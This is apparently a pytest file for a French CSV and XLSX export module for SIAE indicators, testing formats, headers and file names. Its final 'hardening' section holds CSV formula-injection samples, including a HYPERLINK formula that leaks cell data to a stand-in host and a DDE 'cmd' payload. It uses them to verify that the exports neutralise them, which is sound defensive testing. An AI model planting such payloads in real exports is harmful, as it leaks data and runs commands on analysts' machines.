"""ui.export: CSV for French Excel and XLSX with French headers and number formats."""

from __future__ import annotations

import io

import openpyxl
import polars as pl

from ui import export

DF = pl.DataFrame({
    "raison_sociale": ["Jardins du Nord", "Services Tampon ; « AI »"],
    "bassin": ["NORD", "SUD"],
    "type_siae": ["ACI", "TOUS"],
    "retour_complet": [True, False],
    "nb_salaries": [2, None],
    "etp_insertion": [1.5, None],
    "taux_sortie_dynamique": [1.0, 0.425],
    "chiffre_affaires": [150000.0, 45000.5],
})
TABLE = export.Table(
    df=DF, colonnes=tuple(DF.columns), nom="indicateurs_siae", titre="Indicateurs par SIAE",
    filtres=(("Année", "2024"), ("Bassins", "Sud")), suffixe=("2024", "SUD", "ACI"))


def test_file_names_say_what_and_which_filters():
    assert export.nom_fichier(TABLE, "xlsx") == "indicateurs_siae_2024_SUD_ACI.xlsx"
    t = export.Table(df=DF, colonnes=("bassin",), nom="fiche_siae", titre="x", suffixe=("2024", "Jardins d'Été"))
    assert export.nom_fichier(t, "csv") == "fiche_siae_2024_Jardins-d-Ete.csv"


def test_csv_opens_in_french_excel():
    data = export.csv_bytes(TABLE)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel then reads the accents right
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == ("Raison sociale;Bassin;Type de SIAE;Retour complet;Salariés en insertion;ETP insertion;"
                        "Taux de sortie dynamique (%);Chiffre d'affaires")
    assert lines[1] == "Jardins du Nord;Nord;ACI;oui;2;1,5;100;150000"
    assert lines[2] == '"Services Tampon ; « AI »";Sud;Tous types;non;;;42,5;45000,5'
    # read back as Excel would: ";" separated, decimal comma
    back = pl.read_csv(io.BytesIO(data), separator=";", decimal_comma=True)
    assert back["Chiffre d'affaires"].to_list() == [150000.0, 45000.5]


def test_xlsx_has_french_headers_number_formats_and_empty_unknowns():
    wb = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(TABLE, version="version 3")))
    assert wb.sheetnames == ["Données", "Filtres", "Définitions"]
    ws = wb["Données"]
    headers = [c.value for c in ws[1]]
    assert headers[:3] == ["Raison sociale", "Bassin", "Type de SIAE"]
    assert headers[6] == "Taux de sortie dynamique"
    row = {h: c for h, c in zip(headers, ws[3])}
    assert row["Taux de sortie dynamique"].value == 0.425
    assert row["Taux de sortie dynamique"].number_format == "0.0%"
    assert row["Chiffre d'affaires"].number_format == '#,##0 "€"'
    assert row["Salariés en insertion"].value is None  # unknown stays empty, never 0
    assert row["Retour complet"].value == "non"
    assert ws.freeze_panes == "A2"
    filtres = {r[0].value: r[1].value for r in wb["Filtres"].iter_rows()}
    assert filtres["Année"] == "2024" and filtres["Version de l'entrepôt"] == "version 3"
    defs = [r[0].value for r in wb["Définitions"].iter_rows(min_row=2)]
    assert defs == ["Retour complet", "Salariés en insertion", "ETP insertion", "Taux de sortie dynamique",
                    "Chiffre d'affaires"]
    # full precision in the file, and the sheet says how the screen rounds (issue #12)
    precision = {r[0].value: r[4].value for r in wb["Définitions"].iter_rows(min_row=2)}
    assert precision["ETP insertion"] == "au dixième (170,85 se lit 170,9) à l'écran ; ici sans arrondi"
    assert "sans arrondi" in filtres["Précision"]


def test_xlsx_reads_back_with_polars():
    back = pl.read_excel(io.BytesIO(export.xlsx_bytes(TABLE)), sheet_name="Données")
    assert back.columns[0] == "Raison sociale"
    assert back["Chiffre d'affaires"].to_list() == [150000.0, 45000.5]


def test_empty_table_exports_its_header():
    t = export.Table(df=DF.clear(), colonnes=tuple(DF.columns), nom="x", titre="x")
    assert export.csv_bytes(t).decode("utf-8-sig").startswith("Raison sociale;")
    wb = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(t)))
    assert wb["Données"].max_row == 1


# ---------- hardening: formulas in returned text never run in the analyst's spreadsheet ----------

HOSTILE = pl.DataFrame({
    "raison_sociale": ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+33 1 23", "-2+3", "@SUM(A1)",
                       "\tTab", "Jardins = bons"],
    "chiffre_affaires": [-1500.5, 10.0, -2.0, 0.0, 1.0, 2.0],
})
HOSTILE_TABLE = export.Table(df=HOSTILE, colonnes=("raison_sociale", "chiffre_affaires"), nom="x", titre="x",
                             filtres=(("Recherche", "=cmd|' /C calc'!A0"),))


def test_csv_text_cells_starting_like_a_formula_are_neutralised_numbers_keep_their_sign():
    rows = export.csv_bytes(HOSTILE_TABLE).decode("utf-8-sig").split("\r\n")[1:-1]
    assert rows == ['"\'=HYPERLINK(""http://x.example/?""&A1,""clic"")";-1500,5', "'+33 1 23;10", "'-2+3;-2",
                    "'@SUM(A1);0", "'\tTab;1", "Jardins = bons;2"]


def test_xlsx_text_cells_are_text_not_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(HOSTILE_TABLE)))
    ws = wb["Données"]
    names = [ws.cell(row=i, column=1) for i in range(2, 8)]
    assert all(c.data_type == "s" for c in names)  # strings, never formulas ("f")
    assert [c.value[:2] for c in names[:5]] == ["'=", "'+", "'-", "'@", "'\t"]
    assert ws.cell(row=2, column=2).value == -1500.5  # a negative number stays a number
    filtres = {r[0].value: r[1].value for r in wb["Filtres"].iter_rows()}
    assert filtres["Recherche"].startswith("'=")
